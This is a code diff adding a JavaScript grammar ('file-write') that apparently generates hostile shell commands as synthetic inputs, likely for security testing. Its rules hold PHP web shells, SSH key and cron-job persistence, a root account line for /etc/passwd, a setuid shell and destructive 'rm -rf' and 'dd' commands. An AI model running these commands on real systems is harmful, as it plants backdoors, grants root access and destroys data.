@@ -1,0 +1,53 @@
+import { commandGenerator } from '../command-generator.js';
+
+/** Leaves something behind: a web shell, a key, a job, an account. */
+export const fileWrite = commandGenerator({
+  name: 'file-write',
+  rules: {
+    start: ['{leave}{sep}{write}{end}'],
+    content: [
+      "'<?php system($_GET[0]);?>'",
+      "'<?=`$_GET[1]`?>'",
+      '{letters}',
+      "'ssh-rsa AAAAB3Nza{letters} x@y'",
+      "'* * * * * root sh /tmp/{letters}'",
+      "'{letters}::0:0::/root:/bin/sh'",
+      '`id`',
+      '$(whoami)',
+    ],
+    target: [
+      '/var/www/html/{letters}.php',
+      '/tmp/{letters}',
+      'shell.php',
+      '~/.ssh/authorized_keys',
+      '/etc/cron.d/{letters}',
+      '/etc/passwd',
+      '../public/{letters}.jsp',
+      './{letters}.txt',
+      '/dev/shm/{letters}',
+    ],
+    write: [
+      'echo {content} > {target}',
+      'echo {content}>>{target}',
+      'printf %s {content} | tee {target}',
+      'echo {content} | tee -a {target}',
+      '(crontab -l; echo {content}) | crontab -',
+      'cp {secret} {target}',
+      'mv {secret} {target}',
+      'ln -s {secret} {target}',
+      'chmod 777 {target}',
+      'chmod u+s /bin/sh',
+      'useradd -o -u 0 {letters}',
+      "sed -i 's/x/y/' {target}",
+      'dd if=/dev/zero of={target}',
+      'rm -f {target}',
+      'rm -rf /var/www/*',
+      'mkdir -p /tmp/{letters}',
+      'id > {target}',
+      '{recon} >{target} 2>&1',
+      'chown root {target}',
+      'truncate -s 0 {target}',
+      'touch {target}',
+    ],
+  },
+});
